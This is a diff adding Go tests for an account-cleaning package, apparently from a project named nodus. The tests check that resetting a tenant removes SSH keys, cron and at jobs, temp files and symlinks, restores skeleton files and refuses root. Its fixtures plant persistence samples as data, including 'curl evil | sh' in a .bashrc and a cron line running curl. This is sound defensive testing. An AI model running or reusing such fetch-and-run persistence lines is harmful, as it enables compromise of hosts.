@@ -1,0 +1,155 @@
+package cleaning
+
+import (
+	"context"
+	"os"
+	"os/user"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/nodus-dev/nodus/pkg/agent/sessions"
+)
+
+// scratch is a host tree for one account: its home with what a tenant
+// leaves, a skeleton, spools and a temporary directory.
+type scratch struct {
+	root, home string
+	uid        int
+	cleaner    *Cleaner
+}
+
+func newScratch(t *testing.T) *scratch {
+	t.Helper()
+	root := t.TempDir()
+	s := &scratch{root: root, home: filepath.Join(root, "home", "tenant")}
+	for _, dir := range []string{"skel/.config", "cron", "at", "linger", "tmp", "proc", "home/tenant/.ssh", "home/tenant/work"} {
+		if err := os.MkdirAll(filepath.Join(root, dir), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write := func(path, content string, mode os.FileMode) {
+		t.Helper()
+		if err := os.WriteFile(filepath.Join(root, path), []byte(content), mode); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write("skel/.bashrc", "# skel\n", 0o644)
+	write("skel/.config/app", "default\n", 0o600)
+	write("home/tenant/.ssh/authorized_keys", "ssh-ed25519 AAAA planted\n", 0o600)
+	write("home/tenant/work/secret", "tenant data\n", 0o644)
+	write("home/tenant/.bashrc", "curl evil | sh\n", 0o644)
+	write("cron/tenant", "* * * * * curl evil\n", 0o600)
+	write("at/a0001", "job\n", 0o600)
+	write("linger/tenant", "", 0o644)
+	write("tmp/leftover", "tenant data\n", 0o644)
+	if err := os.Symlink("/etc/passwd", filepath.Join(s.home, "link")); err != nil {
+		t.Fatal(err)
+	}
+	// As root (CI) the tenant is an unprivileged uid of its own, as on a host.
+	uid := os.Getuid()
+	if uid == 0 {
+		uid = 4242
+		for _, owned := range []string{"at/a0001", "tmp/leftover"} {
+			if err := os.Lchown(filepath.Join(root, owned), uid, uid); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	s.uid = uid
+	me := strconv.Itoa(uid)
+	s.cleaner = &Cleaner{
+		Procs: sessions.Procs{Root: filepath.Join(root, "proc")}, Grace: time.Second,
+		Paths: Paths{Skel: filepath.Join(root, "skel"), CronSpools: []string{filepath.Join(root, "cron")},
+			AtSpools: []string{filepath.Join(root, "at")}, LingerDir: filepath.Join(root, "linger"), TempDirs: []string{filepath.Join(root, "tmp")}},
+		Lookup: func(name string) (*user.User, error) {
+			if name != "tenant" {
+				return nil, user.UnknownUserError(name)
+			}
+			return &user.User{Username: name, Uid: me, Gid: me, HomeDir: s.home}, nil
+		},
+	}
+	return s
+}
+
+func (s *scratch) exists(path string) bool {
+	_, err := os.Lstat(filepath.Join(s.root, path))
+	return err == nil
+}
+
+func TestResetAccountLeavesOnlyTheSkeleton(t *testing.T) {
+	s := newScratch(t)
+	r := s.cleaner.Clean(context.Background(), 1, []string{"tenant", "nobody-here"})
+	if r.Err != nil {
+		t.Fatalf("clean: %v (steps %v)", r.Err, r.Steps)
+	}
+	for _, gone := range []string{"home/tenant/.ssh", "home/tenant/work", "home/tenant/link", "cron/tenant", "at/a0001", "linger/tenant", "tmp/leftover"} {
+		if s.exists(gone) {
+			t.Errorf("%s survived the cleaning", gone)
+		}
+	}
+	if _, err := os.Stat("/etc/passwd"); err != nil {
+		t.Errorf("the symlink's target was touched: %v", err)
+	}
+	got, err := os.ReadFile(filepath.Join(s.home, ".bashrc"))
+	if err != nil || string(got) != "# skel\n" {
+		t.Errorf(".bashrc is %q (%v), want the skeleton's", got, err)
+	}
+	if info, err := os.Stat(filepath.Join(s.home, ".config", "app")); err != nil || info.Mode().Perm() != 0o600 {
+		t.Errorf("skeleton file mode: %v %v", info, err)
+	}
+	for _, path := range []string{s.home, filepath.Join(s.home, ".bashrc"), filepath.Join(s.home, ".config")} {
+		var st syscall.Stat_t
+		if err := syscall.Lstat(path, &st); err != nil || int(st.Uid) != s.uid || int(st.Gid) != s.uid {
+			t.Errorf("%s is owned by %d:%d, want %d (%v)", path, st.Uid, st.Gid, s.uid, err)
+		}
+	}
+	if info, err := os.Stat(s.home); err != nil || info.Mode().Perm() != 0o700 {
+		t.Errorf("home mode: %v %v", info, err)
+	}
+	if !strings.Contains(strings.Join(r.Steps, "\n"), "no account nobody-here") {
+		t.Errorf("steps do not say the unknown account had nothing: %v", r.Steps)
+	}
+}
+
+func TestRefusesRoot(t *testing.T) {
+	c := &Cleaner{Lookup: func(string) (*user.User, error) {
+		return &user.User{Username: "root", Uid: "0", Gid: "0", HomeDir: "/root"}, nil
+	}}
+	if _, err := c.ResetAccount(context.Background(), "root"); err == nil || !strings.Contains(err.Error(), "uid 0") {
+		t.Errorf("resetting root: %v", err)
+	}
+	c.Lookup = func(string) (*user.User, error) {
+		return &user.User{Username: "svc", Uid: "999", Gid: "999", HomeDir: "/"}, nil
+	}
+	if _, err := c.ResetAccount(context.Background(), "svc"); err == nil || !strings.Contains(err.Error(), "not a directory of its own") {
+		t.Errorf("resetting an account whose home is /: %v", err)
+	}
+}
+
+func TestCleanCommand(t *testing.T) {
+	run := func(command string, timeout time.Duration) Report {
+		c := &Cleaner{Command: command, CommandTimeout: timeout}
+		return c.Clean(context.Background(), 7, []string{})
+	}
+	ok := run(`echo "request $NODUS_CLEAN_REQUEST"`, time.Minute)
+	if ok.Err != nil || ok.CommandExitCode == nil || *ok.CommandExitCode != 0 || !strings.Contains(ok.CommandOutput, "request 7") {
+		t.Errorf("a good command: %+v", ok)
+	}
+	failed := run("echo wiping; exit 3", time.Minute)
+	if failed.Err == nil || *failed.CommandExitCode != 3 || !strings.Contains(failed.CommandOutput, "wiping") {
+		t.Errorf("a failing command: %+v", failed)
+	}
+	start := time.Now()
+	hung := run("sleep 60", 500*time.Millisecond)
+	if hung.Err == nil || !strings.Contains(hung.Err.Error(), "did not finish") || time.Since(start) > 10*time.Second {
+		t.Errorf("a hanging command: %+v after %s", hung, time.Since(start))
+	}
+	long := run(`i=0; while [ $i -lt 2000 ]; do echo "line $i"; i=$((i+1)); done`, time.Minute)
+	if len(long.CommandOutput) > MaxOutput || !strings.HasSuffix(long.CommandOutput, "line 1999\n") {
+		t.Errorf("output tail: %d bytes ending %q", len(long.CommandOutput), long.CommandOutput[len(long.CommandOutput)-20:])
+	}
+}
